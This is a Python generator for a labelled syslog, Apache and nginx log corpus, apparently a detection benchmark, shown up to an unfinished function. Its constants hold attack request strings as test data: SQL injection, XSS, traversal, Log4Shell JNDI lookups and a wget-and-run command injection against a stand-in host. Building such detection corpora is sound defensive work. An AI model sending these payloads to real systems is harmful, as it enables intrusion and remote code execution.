#!/usr/bin/env python
"""
Generate a labelled syslog and Apache corpus for the detection bench.

Every line has a ground-truth label: an attack or failure family (about 10%
of the lines), C{informational} (accepted logins and packets), or
C{benign}.  The families are those of docs/detection.rst, written as the
programs log them, with realistic variants: classic and RFC 3339 syslog
headers, OpenSSH 9.8's C{sshd-session}, IPv4, IPv6 and IPv4-mapped
addresses, user names with dots, PAM lines of many services (sshd, sudo,
su, login, dovecot, vsftpd, cups, polkit, gdm), auditd's raw and syslog
forms, netfilter prefixes of iptables, ufw, SuSEfirewall2, firewalld and
Shorewall, pf's filterlog (pfSense, OPNsense), Apache's common and combined formats (with virtual hosts, also
forwarded through syslog as nginx and Apache's piped logger write them)
with URL-encoded attacks, Apache's error log (2.2, 2.4, through syslog:
HTTP authentication failures, LDAP's too, ModSecurity, malformed requests,
DFind's probe without a Host header), nginx's error log (its own file and
through syslog: HTTP authentication failures, ModSecurity v3, malformed
request lines), Postfix
(and postscreen), Dovecot, Sendmail, Exim (its own log and syslog), Courier
and Cyrus.  The benign lines hold
look-alikes on purpose: sudo commands quoting "Failed password" or
C{/etc/passwd}, searches for "union select", pages about SQL injection,
hosts called C{dropbox}, audit records with a key that succeeded without
one...

    python bench/gendetection.py --lines 1000000 --seed 1 -o corpus.log
    # writes corpus.log and corpus.log.truth (one label per line)

or, from Python, C{generate(n, seed)}: an iterator of C{(line, label)}.  The
same seed always gives the same lines.
"""

import argparse
import os
import random
import re
import sys
import time

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))

from gencorpus import writeCorpus  # noqa: E402

#: The attack and failure families, with the alert IDs that detect them
#: (docs/detection.rst).
FAMILY_IDS = {
    "ssh_failed": {0x1020}, "ssh_invalid_user": {0x1021}, "ssh_root_refused": {0x1022},
    "ssh_max_auth": {0x1023}, "ssh_crc32": {0x7010}, "ssh_no_ident": {0x1024},
    "pam_failure": {0x1025}, "su_failure": {0x1029}, "sudo_failure": {0x1029},
    "sudo_unauthorised": {0x102A}, "audit_denied": {0x5030}, "audit_watch": {0x5040},
    "fw_drop": {0x8010, 0x8040}, "fw_reject": {0x8020}, "web_codered": {0x7010},
    "web_traversal": {0x7011}, "web_sqli": {0x7012}, "web_xss": {0x7013},
    "web_scanner": {0x7014}, "mail_auth": {0x1027}, "mail_suspicious": {0x7020},
    "web_auth": {0x102B}, "web_modsecurity": {0x7015}, "web_malformed": {0x7016},
    "ftp_auth": {0x102C},
}  # fmt: skip
#: The labels of lines that must raise no alert.
NEGATIVE = ("benign", "informational")
#: Alert IDs that classify a line without alerting (accepted logins, packets).
INFORMATIONAL_IDS = frozenset({0x1010, 0x8030})

START = 1733011200  # 2024-12-01T00:00:00Z
_MONTHS = ("Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec")
_DAYS = ("Mon", "Tue", "Wed", "Thu", "Fri", "Sat", "Sun")
_HOSTS = ("fw", "gate", "www1", "www2", "mail", "db1", "ldap", "build", "nfs", "ws17",
          "dropbox", "blocker", "deny-ws3")
_USERS = ("root", "alice", "bob", "john.doe", "a.smith", "svc_backup", "deploy", "m.mueller",
          "postgres", "www-data", "jenkins", "carol.o-brien")
_BAD_USERS = ("admin", "test", "oracle", "guest", "ubuntu", "pi", "ftpuser", "support",
              "user1", "git", "mysql", "administrator", "tomcat", "info.desk", "web.master")
_PAM_SERVICES = ("sshd", "sudo", "su", "login", "dovecot", "vsftpd", "cups", "polkit-1",
                 "gdm-password", "su-l", "systemd-user", "passwd", "cron", "proftpd")
_WORDS = ("linux", "union+station", "select+committee", "script+writing", "drop+shipping",
          "etc", "passwd+reset", "nikto+review", "how+to+use+sqlmap", "cmd+line")
_AGENTS = (
    "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko)"
    " Chrome/131.0.0.0 Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15",
    "curl/8.5.0", "Wget/1.21.4", "Googlebot/2.1 (+http://www.google.com/bot.html)",
    "python-requests/2.31.0",
)
_SCANNER_AGENTS = (
    "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:%06d)",
    "sqlmap/1.8.2#stable (https://sqlmap.org)",
    "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
    "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
    "Mozilla/5.0 zgrab/0.x", "ZmEu", "WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)",
    "Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))",
    "gobuster/3.6", "Fuzz Faster U Fool v2.1.0-dev", "Mozilla/4.0 (compatible; MSIE 6.0; DirBuster)",
)
_URLS = ("/", "/index.html", "/favicon.ico", "/robots.txt", "/css/site.css", "/js/script.js",
         "/images/logo.png", "/login.php", "/api/v1/status?format=json", "/wp-json/wp/v2/posts",
         "/docs/manual%20v2.pdf", "/search?q=%s", "/blog/how-sql-injection-works",
         "/wiki/Directory_traversal_attack", "/docs/etc-passwd-format.html",
         "/downloads/cmd-tools.zip", "/books?author=O%27Reilly+and+sons",
         "/select/union-pacific.html", "/files/..hidden", "/a%2Fb?redirect=%2Fhome",
         # Spaces a client did not encode.
         "/search?q=union station select menu", "/a?q=it's or isn't so",
         "/wiki/Drop table and chairs", "/docs/the script tag.html",
         # Bytes beyond ASCII, as Apache logs them (escaped).
         "/wiki/Z\\xc3\\xbcrich", "/search?q=caf\\xc3\\xa9+cr\\xc3\\xa8me",
         "/cart?item=42&qty=1", "/static/onload.js", "/scripts/alert-box.css",
         # Quotes and "or" in searches, encoded once or twice.
         "/search?q=%22cats%22+or+%22dogs%22", "/search?q=rock%2520or%2520roll",
         "/blog/nice%20ports%2C%20harbours.html",
         # SQL's words in a search, a path; a comment-like path.
         "/search?q=just+in+case+when+travelling", "/menu/(select)+from+the+list",
         "/blog/acunetix-wvs-security-review", "/blog/2024/11/comments%2F**%2Fare%2Fback")
_TRAVERSALS = (
    "/cgi-bin/view.cgi?file=../../../../etc/passwd", "/index.php?page=..%2f..%2f..%2fetc%2fpasswd",
    "/index.php?page=%2e%2e%2f%2e%2e%2fetc%2fpasswd", "/download?f=....//....//etc/passwd",
    "/static/%252e%252e/%252e%252e/etc/shadow", "/show.php?file=/etc/passwd",
    "/..%c0%af..%c0%afetc/passwd", "/img/..%5c..%5cwindows%5cwin.ini",
    "/view?doc=..\\..\\..\\boot.ini", "/include.php?path=php://filter/resource=../../etc/passwd",
)
_SQLI = (
    "/item.php?id=1%20UNION%20SELECT%20username,password%20FROM%20users--",
    "/item.php?id=1+union+all+select+1,2,concat(user(),version())--+-",
    "/login.php?user=admin%27%20or%20%271%27=%271", "/news.php?id=5%27%20AND%201=1--",
    "/item.php?id=1+AND+SLEEP(5)", "/products.php?cat=2%27;DROP%20TABLE%20users;--",
    "/search.php?q=x%27)%20OR%20(%27a%27=%27a", "/view.php?id=-1/**/UnIoN/**/SeLeCt/**/1,2,3",
    "/list.php?sort=(select%20benchmark(5000000,md5(1)))",
    "/item.php?id=1%20and%20(select%201%20from%20information_schema.tables)",
    "/page.php?id=1%27%20waitfor%20delay%20%270:0:5%27--", "/user.php?id=1 or 1=1",
    # Encoded twice (%2527 is ', %2520 a space, %253D =); a double quote.
    "/item.php?id=1%2527%2520OR%25201%253D1", "/item.php?id=1%2520or%25202%253d2",
    "/item.php?id=1%22%20or%20%221%22=%221", "/login.php?user=admin%22%20OR%20%22a%22=%22a",
    "/login.php?user=admin' OR '1'='1", "/item.php?id=1 UNION SELECT null,version()--",
    "/page?id=1; DROP TABLE users", "/index.php?id=1' AND SLEEP(5)-- -",
    # Comments half encoded; blind injections: CASE WHEN, a subquery.
    "/post?id=1%2F**%2FUNION%2F**%2FSELECT%2F**%2F1%2C2",
    "/item.php?id=1 AND (SELECT CASE WHEN (1=1) THEN 1 ELSE 0 END)",
    "/item.php?id=1 AND ASCII(SUBSTRING((SELECT password FROM users LIMIT 1),1,1))>64",
    # Boolean-blind pairs, a tautology in parentheses, comments for spaces,
    # HAVING, a string concatenated with a subquery.
    "/news.php?id=1%20AND%201=2", "/category.php?cid=7)%20OR%20(1=1",
    "/cart.php?item=3'/**/OR/**/1=1--", "/page.asp?id=1%27%20having%201=1--",
    "/?p=1%27%7C%7C(SELECT%20version())%7C%7C%27",
)
_XSS = (
    "/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E",
    "/search?q=%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E", "/comment?text=<script>alert(1)</script>",
    "/profile?name=%3CsVg/OnLoAd=prompt(1)%3E", "/redirect?url=javascript:alert(%27xss%27)",
    "/page?x=%253Cscript%253Ealert(1)%253C%252Fscript%253E",
    "/q?s=%3Ciframe%20src=javascript:alert(1)%3E", "/p?v=%3Cbody%20onload=alert(1)%3E",
    '/search?q=\\"><script>alert(String.fromCharCode(88))</script>',
    "/search?q=<img src=x onerror=alert(1)>", "/c?t=<svg onload=prompt(1)>",
)
_CODERED = (
    "/default.ida?NNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNN%u9090%u6858%ucbd3%u7801%u9090%u6858"
    "%ucbd3%u7801%u9090%u9090%u8190%u00c3%u0003%u8b00%u531b%u53ff%u0078%u0000%u00=a",
    "/default.ida?XXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXX%u9090%u6858%ucbd3%u7801=a",
    "/scripts/root.exe?/c+dir", "/MSADC/root.exe?/c+dir", "/c/winnt/system32/cmd.exe?/c+dir",
    "/scripts/..%255c../winnt/system32/cmd.exe?/c+dir",
    "/_vti_bin/..%255c../..%255c../..%255c../winnt/system32/cmd.exe?/c+dir",
    "/scripts/..%c0%2f../winnt/system32/cmd.exe?/c+dir",
)
_SCAN_URLS = ("/w00tw00t.at.ISC.SANS.DFind:)", "/nikto-test-4f3a2b.html", "/NessusTest123.html",
              # nmap's FourOhFourRequest probe, Acunetix's and Nessus' (OWASP
              # CRS scanners-urls.data lists both).
              "/nice%20ports%2C/Tri%6Eity.txt%2ebak", "/acunetix-wvs-test-for-some-inexistent-file",
              "/nessus_is_probing_you_", "/index.php?q=acunetix_wvs_security_test")
_FW_DROP = ("SuSE-FW-DROP-DEFAULT ", "SuSE-FW-DROP ", "[UFW BLOCK] ", "DROP:", "iptables-dropped: ",
            "IPTables-Dropped: ", "Shorewall:net2fw:DROP:", "SuSE-FW-ILLEGAL-TARGET ",
            "SuSE-FW-UNAUTHORIZED-TARGET ", "nft drop in: ", "INPUT-DENY ",
            # ConfigServer Firewall's invalid packets and port floods.
            "Firewall: *INVALID* ", "Firewall: *Port Flood* ",
            # EdgeOS and VyOS: the rule set, the rule, D (drop).
            "[WAN_LOCAL-default-D]")
#: Exploits of the 2020s: Log4Shell (plain, obfuscated, encoded),
#: Spring4Shell, PHP-CGI (and its soft hyphen), PHPUnit, Struts' OGNL,
#: ThinkPHP, GPON, a router's command injection, F5's iControl REST,
#: Laravel Ignition, TP-Link's LuCI locale, Exchange's ProxyShell.
_EXPLOITS = (
    "/?x=${jndi:ldap://198.51.100.9:1389/a}", "/?x=%24%7Bjndi%3Adns%3A%2F%2Fx.oast.fun%2Fa%7D",
    "/?q=${${::-j}${::-n}${::-d}${::-i}:${::-r}mi://198.51.100.9/x}",
    "/?class.module.classLoader.resources.context.parent.pipeline.first.pattern=x",
    "/index.php?-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
    "/%24%7B%28%23a%3D%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29%7D/",
    "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array",
    "/GponForm/diag_Form?images/", "/shell?cd+/tmp;wget+http://198.51.100.9/x.sh;sh+x.sh",
    "/php-cgi/php-cgi.exe?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input",
    "/mgmt/tm/util/bash", "/_ignition/execute-solution",
    "/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id)",
    "/autodiscover/autodiscover.json?@zdi/PowerShell?serialization=Key",
)
_FW_REJECT = ("FINAL_REJECT: ", "SuSE-FW-REJECT ", "Shorewall:net2fw:REJECT:", "REJECT ",
              "[WAN_IN-20-R]",
              "[UFW REJECT] ")
_FW_ACCEPT = ("SuSE-FW-ACCEPT ", "[UFW ALLOW] ", "ACCEPT-SSH: ", "Shorewall:net2fw:ACCEPT:",
              "[WAN_IN-10-A]")
_FW_NEUTRAL = ("iptables-in ", "fw-log ", "[UFW AUDIT] ", "")


def generate(n, seed=1, start=START, attackShare=0.1):
    """
    Yield C{n} C{(line, label)} pairs, reproducibly for C{seed}: about
    C{attackShare} of them of the attack and failure families.
    """
    rnd = random.Random(seed)
    r = rnd.random

    def pick(seq):
        return seq[int(r() * len(seq))]

    outside = ["%d.%d.%d.%d" % (pick((24, 45, 61, 80, 91, 103, 185, 193, 203, 218)),
                                rnd.randrange(256), rnd.randrange(256), rnd.randrange(1, 255))
               for _ in range(300)]
    outside += ["2001:db8:%x:%x::%x" % (rnd.randrange(65536), rnd.randrange(65536),
                                        rnd.randrange(1, 65536)) for _ in range(60)]
    inside = ["10.%d.%d.%d" % (rnd.randrange(4), rnd.randrange(256), rnd.randrange(1, 255))
              for _ in range(60)] + ["fd00::%x" % rnd.randrange(1, 65536) for _ in range(10)]
    clock = [float(start), -1, {}]

    def stamp():
        clock[0] += r() * 0.05
        second = int(clock[0])
        cache = clock[2]
        if second != clock[1]:
            clock[1] = second
            tm = time.gmtime(second)
            hms = "%02d:%02d:%02d" % (tm.tm_hour, tm.tm_min, tm.tm_sec)
            cache["syslog"] = "%s %2d %s" % (_MONTHS[tm.tm_mon - 1], tm.tm_mday, hms)
            cache["iso"] = "%04d-%02d-%02dT%s.%06d+00:00" % (
                tm.tm_year, tm.tm_mon, tm.tm_mday, hms, rnd.randrange(1000000))
            cache["apache"] = "%02d/%s/%04d:%s +0000" % (
                tm.tm_mday, _MONTHS[tm.tm_mon - 1], tm.tm_year, hms)
            cache["ctime"] = "%s %s %02d %s %04d" % (
                _DAYS[tm.tm_wday], _MONTHS[tm.tm_mon - 1], tm.tm_mday, hms, tm.tm_year)
            cache["audit"] = "%d" % second
            cache["nginx"] = "%04d/%02d/%02d %s" % (tm.tm_year, tm.tm_mon, tm.tm_mday, hms)
        return cache

    def head(program, pid=True):
        s = stamp()
        if r() < 0.04:
            # RFC 5424's framing (rsyslog's RSYSLOG_SyslogProtocol23Format),
            # with or without structured data and a byte-order mark.
            data = pick(("-", "-", '[timeQuality tzKnown="1" isSynced="0"]',
                         '[origin ip="10.0.0.1" software="rsyslogd"][x@32473 q="a\\"]b"]'))
            return "<%d>1 %s %s %s %s - %s %s" % (
                rnd.randrange(192), s["iso"], pick(_HOSTS), program,
                rnd.randrange(300, 65000) if pid else "-", data, "\ufeff" if r() < 0.2 else "")
        when = s["iso"] if r() < 0.3 else s["syslog"]
        if r() < 0.03:
            # What journalctl prints: short-precise, short-full, short-unix.
            form = r()
            if form < 0.4:
                when = "%s.%06d" % (s["syslog"].replace("  ", " 0"), rnd.randrange(1000000))
            elif form < 0.7:
                when = "%s %s UTC" % (s["ctime"][:3], s["iso"][:19].replace("T", " "))
            else:
                when = "%s.%06d" % (s["audit"], rnd.randrange(1000000))
        elif when[4] == " " and r() < 0.05:
            # A day of one digit not padded, as some senders write it.
            when = when[:4] + when[5:]
        if pid:
            return "%s %s %s[%d]: " % (when, pick(_HOSTS), program, rnd.randrange(300, 65000))
        return "%s %s %s: " % (when, pick(_HOSTS), program)

    def sshd():
        return head("sshd-session" if r() < 0.2 else "sshd")

    def src():
        return pick(outside)

    def mapped(address):
        return "::ffff:" + address if "." in address and r() < 0.3 else address

    def port():
        return rnd.randrange(1024, 65536)

    def audit(kind):
        s = stamp()
        body = "type=%s msg=audit(%s.%03d:%d): " % (kind, s["audit"], rnd.randrange(1000),
                                                    rnd.randrange(1000, 999999))
        if r() < 0.25:
            numbers = {"SYSCALL": 1300, "AVC": 1400, "USER_AUTH": 1100, "PATH": 1302}
            body = "%s %s kernel: audit: type=%d audit(%s.%03d:%d): " % (
                s["syslog"], pick(_HOSTS), numbers.get(kind, 1300), s["audit"],
                rnd.randrange(1000), rnd.randrange(1000, 999999))
        elif r() < 0.15:
            body = "%s %s audispd: node=%s %s" % (s["syslog"], pick(_HOSTS), pick(_HOSTS), body)
        return body

    def syscall(success, exitCode, key, exe="/usr/bin/vi", comm="vi"):
        return ("arch=c000003e syscall=%d success=%s exit=%s a0=7ffd1 a1=0 a2=1b6 a3=0 items=1"
                " ppid=%d pid=%d auid=%d uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0"
                " fsgid=0 tty=pts%d ses=%d comm=\"%s\" exe=\"%s\" key=%s" % (
                    pick((2, 257, 59, 87, 90)), success, exitCode, rnd.randrange(2, 30000),
                    rnd.randrange(2, 30000), pick((0, 1000, 1001, 4294967295)),
                    rnd.randrange(8), rnd.randrange(90), comm, exe, key))

    def netfilter(prefix, source=None):
        s = stamp()
        source = source or src()
        six = ":" in source
        dst = pick(inside) if not six else "2001:db8::%x" % rnd.randrange(1, 999)
        stampK = "[%d.%06d] " % (rnd.randrange(99999), rnd.randrange(1000000)) if r() < 0.7 else ""
        if six:
            body = ("SRC=%s DST=%s LEN=80 TC=0 HOPLIMIT=57 FLOWLBL=0 PROTO=TCP SPT=%d DPT=%d"
                    " WINDOW=64240 RES=0x00 SYN URGP=0" % (source, dst, port(),
                                                          pick((22, 80, 443, 3389))))
        else:
            proto = pick(("TCP", "TCP", "UDP", "ICMP"))
            body = "SRC=%s DST=%s LEN=%d TOS=0x00 PREC=0x00 TTL=%d ID=%d " % (
                source, dst, rnd.randrange(40, 1500), rnd.randrange(30, 128), rnd.randrange(65536))
            if proto == "ICMP":
                body += "PROTO=ICMP TYPE=8 CODE=0 ID=%d SEQ=%d" % (rnd.randrange(65536), rnd.randrange(999))
            else:
                body += "DF PROTO=%s SPT=%d DPT=%d %s" % (
                    proto, port(), pick((22, 23, 25, 53, 80, 135, 445, 1433, 3389, 8080)),
                    "WINDOW=1024 RES=0x00 SYN URGP=0" if proto == "TCP" else "LEN=20")
        mac = "MAC=00:16:3e:%02x:%02x:%02x:52:54:00:12:35:02:08:00 " % (
            rnd.randrange(256), rnd.randrange(256), rnd.randrange(256)) if r() < 0.6 else ""
        return "%s %s kernel: %s%sIN=eth0 OUT= %s%s" % (
            s["syslog"], pick(_HOSTS), stampK, prefix, mac, body)

    def web(url, status=None, agent=None, client=None):
        s = stamp()
        client = client or src()
        status = status or pick((200, 200, 200, 301, 302, 304, 403, 404, 500))
        method = pick(("GET", "GET", "GET", "POST", "HEAD"))
        line = '%s - %s [%s] "%s %s HTTP/1.1" %d %s' % (
            client, pick(("-", "-", "-", "bob", "john.doe")), s["apache"], method, url, status,
            rnd.randrange(100, 90000) if status < 300 else "-")
        if r() < 0.8:
            line += ' "%s" "%s"' % (pick(("-", "https://www.example.org/", "https://www.google"
                                          ".com/search?q=nikto+sqlmap")), agent or pick(_AGENTS))
        if r() < 0.15:
            line = "www.example.org:443 " + line
        if r() < 0.06:
            if agent is None and r() < 0.3:
                # HAProxy's HTTP log (option httplog) through syslog: no
                # user agent (unless captured), the request last.
                return '%s%s:%d [%s.%03d] %s %s/web%d %d/0/%d/%d/%d %d %s%d - - %s %d/%d/0/0/0 0/0 "%s %s HTTP/1.1"' % (
                    head("haproxy"), client, port(), s["apache"].split(" ")[0],
                    rnd.randrange(1000), pick(("www", "www~", "https-in~")),
                    pick(("app", "static")), rnd.randrange(1, 4), rnd.randrange(20),
                    rnd.randrange(5), rnd.randrange(300), rnd.randrange(300, 900), status,
                    pick(("", "", "+")), rnd.randrange(100, 90000),
                    pick(("----", "----", "--NI", "SD--", "CD--")), rnd.randrange(1, 50),
                    rnd.randrange(1, 50), method, url)
            # Forwarded through syslog: nginx's access_log syslog:server=...,
            # Apache's CustomLog "|/usr/bin/logger -t apache2" (or -i).
            program = pick(("nginx", "nginx", "apache2", "httpd"))
            line = head(program, program == "httpd") + line
        return line

    def webError(message, client=None, module="core", code=None, level="error", source=None,
                 old=None):
        """
        Apache's error log: 2.2 (C{[error]}; C{old}, if given, is its
        message), or 2.4 (C{[module:level]}, the pid and thread, the source
        file of a debug message if C{source}, C{client:port},
        C{[IPv6]:port}, the message's AH code if C{code}); one in ten
        through syslog (ErrorLog syslog).
        """
        s = stamp()
        client = client or src()
        if r() < 0.5:
            # (2.2 logged at error what 2.4 logs at debug.)
            line = "[%s] [%s] [client %s] %s" % (
                s["ctime"], "error" if level == "debug" else level, client, old or message)
        else:
            line = "[%s] [%s:%s] [pid %d:tid %d] %s[client %s:%d] %s%s" % (
                s["ctime"], module, level, rnd.randrange(99999), rnd.randrange(99999),
                "%s(%d): " % (source, rnd.randrange(100, 2000)) if source else "",
                "[%s]" % client if ":" in client else client, port(),
                "%s: " % code if code else "", message)
        if r() < 0.1:
            line = "%s %s %s[%d]: %s" % (s["syslog"], pick(_HOSTS), pick(("httpd", "apache2")),
                                         rnd.randrange(300, 65000), line.partition("] ")[2])
        return line

    def nginxError(message, level="error", client=None, request=None, connection=True):
        """
        nginx's error log (C{2024/12/01 00:00:01 [error] 811#811: *5
        message, client: ..., server: ..., request: "...", host: "..."}), in
        its own file, or one in ten through syslog (C{error_log syslog:},
        the whole line after the header and C{nginx:}).
        """
        s = stamp()
        pid = rnd.randrange(300, 65000)
        line = "%s [%s] %d#%d: %s%s, client: %s, server: %s" % (
            s["nginx"], level, pid, pid, "*%d " % rnd.randrange(1, 999999) if connection else "",
            message, client or src(), pick(("_", "www.example.org", "example.org")))
        if request is not False:
            line += ', request: "%s", host: "www.example.org"' % (
                request or "GET %s HTTP/1.1" % pick(("/", "/admin/", "/private/x")))
            if r() < 0.3:
                line += ', referrer: "https://www.example.org/"'
        if r() < 0.1:
            line = head("nginx", False) + line
        return line

    def pamFailure(service, user, rhost):
        form = r()
        if service == "dovecot" and form < 0.3:
            # PAM's message as Dovecot's auth worker passes it on.
            return ("%sauth-worker(%d): pam_unix(dovecot:auth): authentication failure;"
                    " logname= uid=0 euid=0 tty=dovecot ruser=%s rhost=%s" % (
                        head("dovecot"), rnd.randrange(300, 65000), user, rhost))
        if form < 0.85:
            module = pick(("pam_unix", "pam_unix", "pam_sss", "pam_ldap"))
            return ("%s%s(%s:auth): authentication failure; logname=%s uid=%d euid=0 tty=%s"
                    " ruser=%s rhost=%s %s" % (
                        head(service.split("-")[0]), module, service, pick(("", user)),
                        pick((0, 1000)), pick(("ssh", "/dev/pts/1", service, "")),
                        pick(("", user)), rhost, pick(("", " user=" + user))))
        return ("%sauthentication failure; logname= uid=0 euid=0 tty=NODEVssh ruser= rhost=%s"
                "  user=%s" % (head(service + "(pam_unix)"), rhost, user))

    # Attack and failure lines --------------------------------------------------
    def a_ssh_failed():
        user = pick(_USERS + _BAD_USERS)
        invalid = "invalid user " if user in _BAD_USERS else ""
        if r() < 0.1:
            return "%sBad password attempt for '%s' from %s:%d" % (head("dropbear"), user, src(), port())
        if r() < 0.05:
            return "%serror: PAM: Authentication failure for %s%s from %s" % (
                sshd(), "illegal user " if invalid else "", user, src())
        failed = "Failed %s for %s%s from %s port %d ssh2%s" % (
            pick(("password", "password", "publickey", "keyboard-interactive/pam", "none")),
            invalid, user, src(), port(), pick(("", "", ": RSA SHA256:Qx0dVfHfd2z")))
        if r() < 0.05:
            # rsyslog's reduction of the same message repeated at once.
            return "%smessage repeated %d times: [ %s]" % (sshd(), rnd.randrange(2, 6), failed)
        return sshd() + failed

    def a_ssh_invalid_user():
        if r() < 0.1:
            return "%sLogin attempt for nonexistent user from %s:%d" % (head("dropbear"), src(), port())
        return "%s%s user %s from %s%s" % (sshd(), pick(("Invalid", "Invalid", "Illegal")),
                                           pick(_BAD_USERS), src(), pick(("", " port %d" % port())))

    def a_ssh_root_refused():
        form = r()
        if form < 0.4:
            return "%sROOT LOGIN REFUSED FROM %s%s" % (sshd(), src(), pick(("", " port %d" % port())))
        if form < 0.8:
            return "%sUser %s from %s not allowed because %s" % (
                sshd(), pick(("root", "admin", "john.doe")), src(),
                pick(("not listed in AllowUsers", "listed in DenyUsers", "none of user's groups"
                      " are listed in AllowGroups")))
        return "%sROOT LOGIN REFUSED ON tty%d" % (head("login"), rnd.randrange(1, 7))

    def a_ssh_max_auth():
        user = pick(_USERS + _BAD_USERS)
        form = r()
        if form < 0.35:
            return "%serror: maximum authentication attempts exceeded for %s%s from %s port %d" \
                   " ssh2 [preauth]" % (sshd(), "invalid user " if user in _BAD_USERS else "",
                                        user, src(), port())
        if form < 0.6:
            return "%sDisconnecting %s user %s %s port %d: Too many authentication failures" \
                   " [preauth]" % (sshd(), "invalid" if user in _BAD_USERS else "authenticating",
                                   user, src(), port())
        if form < 0.8:
            return "%sPAM %d more authentication failures; logname= uid=0 euid=0 tty=ssh ruser=" \
                   " rhost=%s  user=%s" % (sshd(), rnd.randrange(1, 6), src(), user)
        if form < 0.85:
            return "%sPAM service(sshd) ignoring max retries; %d > 3" % (sshd(), rnd.randrange(4, 7))
        if form < 0.9:
            # Dropbear 2019 and later.
            return "%sExit before auth from <%s:%d>: Max auth tries reached - user '%s'" % (
                head("dropbear"), src(), port(), user)
        return "%spam_faillock(sshd:auth): Consecutive login failures for user %s account" \
               " temporarily locked" % (sshd(), user)

    def a_ssh_crc32():
        return "%sfatal: Local: crc32 compensation attack: network attack detected from %s port" \
               " %d" % (sshd(), src(), port())

    def a_ssh_no_ident():
        if r() < 0.08:
            # OpenSSH 8.x: a client that sends binary before its banner.
            return "%serror: kex_exchange_identification: banner line contains invalid" \
                   " characters" % sshd()
        if r() < 0.15:
            # OpenSSH 8.2 and later: no banner, or none before the timeout.
            return "%sbanner exchange: Connection from %s port %d: %s" % (
                sshd(), src(), port(), pick(("invalid format", "invalid format",
                                             "Connection timed out",
                                             "Connection reset by peer")))
        if r() < 0.05:
            # An SSH-1 client: Nmap's probe.
            return "%sProtocol major versions differ for %s port %d: SSH-2.0-OpenSSH_8.9p1" \
                   " Ubuntu-3ubuntu0.6 vs. SSH-1.5-Nmap-SSH1-Hostkey" % (sshd(), src(), port())
        if r() < 0.12:
            # Other connections that never authenticated: an invalid user's
            # closed, one left at the prompt, SSH spoken wrong.
            return sshd() + pick((
                "Connection closed by invalid user %s %s port %d [preauth]" % (
                    pick(_BAD_USERS), src(), port()),
                "Disconnected from invalid user %s %s port %d [preauth]" % (
                    pick(_BAD_USERS), src(), port()),
                "Timeout before authentication for %s port %d" % (src(), port()),
                "Bad packet length %d. [preauth]" % rnd.randrange(10 ** 8, 2 ** 31),
                "ssh_dispatch_run_fatal: Connection from %s port %d: message authentication code"
                " incorrect [preauth]" % (src(), port()),
                "Disconnecting: Corrupted check bytes on input.",
                "Unable to negotiate with %s port %d: no matching key exchange method found."
                " Their offer: diffie-hellman-group1-sha1" % (src(), port())))
        if r() < 0.8:
            return "%s%sid not receive identification string from %s%s" % (
                sshd(), pick(("D", "D", "error: d")), src(), pick(("", " port %d" % port())))
        return "%sBad protocol version identification '%s' from %s port %d" % (
            sshd(), pick(("GET / HTTP/1.1", "\\026\\003\\001", "SSH-1.5-NmapNSE_1.0")), src(), port())

    def a_pam_failure():
        if r() < 0.05:
            # util-linux login's later wording; polkit's helper and daemon.
            form = r()
            if form < 0.4:
                return "%sFAILED LOGIN SESSION FROM %s FOR %s, Authentication failure" % (
                    head("login"), pick(("tty3", "ttyS0")), pick(_USERS))
            if form < 0.7:
                return "%spolkit-agent-helper-1: pam_authenticate failed: Authentication" \
                       " failure" % head("polkit-agent-helper-1")
            return "%sOperator of unix-session:%d FAILED to authenticate to gain authorization" \
                   " for action org.freedesktop.systemd1.manage-units for system-bus-name::1.%d" \
                   " [systemctl restart nginx] (owned by unix-user:%s)" % (
                       head("polkitd"), rnd.randrange(1, 20), rnd.randrange(999), pick(_USERS))
        if r() < 0.1:
            return "%sFAILED LOGIN %s FROM %s FOR %s, Authentication failure" % (
                head("login"), pick(("1", "(2)")), pick(("tty1", "pts/3")), pick(_USERS))
        if r() < 0.15:
            # SSSD, nss-pam-ldapd, pam_unix's password helper, google-authenticator.
            service, user = pick(_PAM_SERVICES), pick(_USERS)
            form = r()
            if form < 0.4:
                return "%spam_sss(%s:auth): received for user %s: %s" % (
                    head(service.split("-")[0]), service, user,
                    pick(("7 (Authentication failure)",
                          "10 (User not known to the underlying authentication module)")))
            if form < 0.6:
                return "%spam_ldap(%s:auth): Authentication failure; user=%s" % (
                    head(service.split("-")[0]), service, user)
            if form < 0.8:
                return "%spassword check failed for user (%s)" % (head("unix_chkpwd"), user)
            return "%sInvalid verification code for %s" % (
                head(pick(("sshd", "sudo", "login")) + "(pam_google_authenticator)"), user)
        return pamFailure(pick(_PAM_SERVICES), pick(_USERS), pick(("", src(), mapped(src()))))

    def a_su_failure():
        if r() < 0.6:
            return "%sFAILED SU (to %s) %s on %s" % (head("su", r() < 0.5), pick(("root", "postgres")),
                                                     pick(_USERS), pick(("/dev/pts/0", "pts/2")))
        form = r()
        if form < 0.3:
            return "%spam_authenticate: Authentication failure" % head("su")
        if form < 0.5:
            return "%sFAILED su for root by %s" % (head("su"), pick(_USERS))
        if form < 0.7:
            return "%s- /dev/pts/%d %s:root" % (head("su"), rnd.randrange(9), pick(_USERS))
